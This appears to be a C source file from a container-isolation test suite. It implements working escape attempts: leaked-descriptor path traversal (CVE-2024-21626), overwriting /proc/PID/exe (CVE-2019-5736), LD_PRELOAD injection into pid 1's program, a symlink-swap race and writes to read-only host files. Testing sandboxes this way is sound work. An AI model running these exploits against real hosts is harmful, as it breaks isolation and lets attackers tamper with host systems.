/* Group 3: descriptors that were left open, and the way to a program by /proc/PID/exe. */
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* FILE: a file of the host. Every descriptor that came along is tried as a folder (CVE-2024-21626). */
static void kept(int argc, char **argv) {
  const char *file = argument(argc, argv, 1);
  char path[4096];
  int folders = 0;
  for (int fd = 0; fd < 4096; fd++) {
    struct stat what;
    if (fstat(fd, &what) < 0 || !S_ISDIR(what.st_mode)) continue;
    folders++;
    snprintf(path, sizeof path, "../../../../../../../../../..%s", file);
    tried("the host's file", openat(fd, path, O_RDONLY));
  }
  if (!folders) told("folders among the descriptors", "none");
}

/* FILE: a file of the host, from the working directory upwards and by each /proc/self/fd. */
static void working_dir(int argc, char **argv) {
  const char *file = argument(argc, argv, 1);
  char path[4096], where[1024];
  noted("in %s", getcwd(where, sizeof where) ? where : strerrorname_np(errno));
  snprintf(path, sizeof path, "../../../../../../../../../..%s", file);
  tried("upwards", open(path, O_RDONLY));
  for (int fd = 0; fd < 32; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, file);
    tried("by /proc/self/fd", open(path, O_RDONLY));
  }
}

/* A program that runs, or ran, opened for writing. */
static int overwritten(const char *path) {
  char again[64];
  static const int ways[] = {O_WRONLY, O_RDWR | O_TRUNC};
  for (int i = 0; i < 2; i++) {
    int fd = open(path, ways[i]);
    tried(path, fd);
    if (fd >= 0) return 1;
  }
  int fd = open(path, O_PATH);
  if (fd < 0) return 0;
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  for (int turn = 0; turn < 1000; turn++)
    if (open(again, O_WRONLY) >= 0) {
      told("written after all", "done");
      return 1;
    }
  tried("a thousand times by O_PATH", open(again, O_WRONLY | O_TRUNC));
  close(fd);
  return 0;
}

static int same_program(const char *one, const char *other) {
  struct stat first, second;
  return stat(one, &first) == 0 && stat(other, &second) == 0 && first.st_dev == second.st_dev &&
         first.st_ino == second.st_ino;
}

/* What the launcher's program that waits is told: to run this program, as `privileges`. */
static size_t order(char *to, size_t room) {
  const unsigned counts[] = {1, 2, 0};
  char own[256];
  ssize_t length = readlink("/proc/self/exe", own, sizeof own - 1);
  own[length > 0 ? length : 0] = 0;
  memcpy(to, counts, sizeof counts);
  return sizeof counts + (size_t)snprintf(to + sizeof counts, room - sizeof counts, "/%c%s%cattack%cprivileges", 0,
                                          own, 0, 0) + 1;
}

/* Whether what ran, by its words, holds the capabilities that this process has. */
static int as_before(const char *told_of) {
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct sets[2] = {{0}};
  char text[64];
  syscall(SYS_capget, &head, sets);
  snprintf(text, sizeof text, "effective %08x%08x, euid %d,", sets[1].effective, sets[0].effective, geteuid());
  return strstr(told_of, text) != NULL;
}

/* The program of pid 1 executed once more, with what could make it load our code, and with our socket where the
 * program that waits has the launcher's: if pid 1 is that, it waits for us then. */
static void executed_again(void) {
  char path[64], out[512] = "", packet[512];
  int ends[2], pair[2];
  if (pipe(ends) < 0 || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair) < 0) return tried("a socket", -1);
  pid_t child = fork();
  if (child == 0) {
    dup2(ends[1], 1);
    dup2(pair[1], 3);
    for (int fd = 4; fd < 64; fd++) close(fd);
    char *const argv[] = {"/proc/1/exe", "privileges", NULL};
    char *const environment[] = {"LD_PRELOAD=/attack", "LD_AUDIT=/attack", "LD_LIBRARY_PATH=/", NULL};
    execve(argv[0], argv, environment);
    dprintf(1, "\"answer\":\"%s\"", strerrorname_np(errno));
    _exit(0);
  }
  close(ends[1]), close(pair[1]);
  snprintf(path, sizeof path, "/proc/%d/exe", child);
  if (!same_program("/proc/1/exe", "/proc/self/exe")) {
    for (int i = 0; i < 200 && !same_program(path, "/proc/1/exe"); i++) usleep(1000);
    noted("it waits for us");
    overwritten(path);
  }
  if (send(pair[0], packet, order(packet, sizeof packet), MSG_NOSIGNAL) < 0) noted("it takes no orders");
  if (read(ends[0], out, sizeof out - 1) <= 0) told("what ran", "nothing");
  char *found = strstr(out, "\"answer\":\""), *end = found ? strchr(found + 10, '"') : NULL;
  if (end) {
    int same = as_before(end + 1);
    *end = 0;
    told("what was executed again", same ? "nothing gained" : found + 10);
  }
  waitpid(child, NULL, 0);
}

/* As CVE-2019-5736: the programs of all processes in sight, among them pid 1, which the launcher made. */
static void exe(int argc, char **argv) {
  (void)argc, (void)argv;
  char path[64], what[256];
  for (pid_t pid = 1; pid < 32768; pid++) {
    if (kill(pid, 0) < 0 && errno == ESRCH) continue;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, what, sizeof what - 1);
    noted("%d is %.*s", pid, length > 0 ? (int)length : 1, length > 0 ? what : "?");
    if (overwritten(path)) return;
  }
  executed_again();
}

/* Code and root are read-only for everybody inside. */
static void own_code(int argc, char **argv) {
  (void)argc, (void)argv;
  static const char *const files[] = {"/var/task/bootstrap", "/attack", "/etc/passwd", "/usr/bin/env", "/new"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    struct stat what;
    if (stat(files[i], &what) < 0 && strcmp(files[i], "/new") != 0) continue;
    tried(files[i], open(files[i], O_WRONLY | O_CREAT, 0644));
  }
}

/* FOLDER TARGET: exchanges FOLDER/a, a folder, and FOLDER/b, a link to TARGET, for ever. */
static void swap(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1);
  char here[128], link[128], inner[160];
  snprintf(here, sizeof here, "%s/a", folder);
  snprintf(link, sizeof link, "%s/b", folder);
  snprintf(inner, sizeof inner, "%s/inner", here);
  mkdir(here, 0777);
  mkdir(inner, 0777);
  symlink(argument(argc, argv, 2), link);
  for (;;) renameat2(AT_FDCWD, here, AT_FDCWD, link, RENAME_EXCHANGE);
}

/* PATH…: files that a layer brought. What can be read must be the image's own. */
static void steal(int argc, char **argv) {
  char text[64];
  for (int i = 1; i < argc; i++) {
    int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
    ssize_t got = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (got < 0) {
      tried(argv[i], -1);
    } else {
      text[got] = 0;
      noted("%s reads '%s'", argv[i], text);
      told(argv[i], strstr(text, "canary") ? "done" : "own file");
    }
  }
}

const struct attack descriptors[] = {
    {"kept-descriptors", kept, 0},
    {"working-dir", working_dir, 0},
    {"steal", steal, 0},
    {"swap", swap, 1},
    {"proc-exe", exe, 0},
    {"write-code", own_code, 0},
    {0},
};
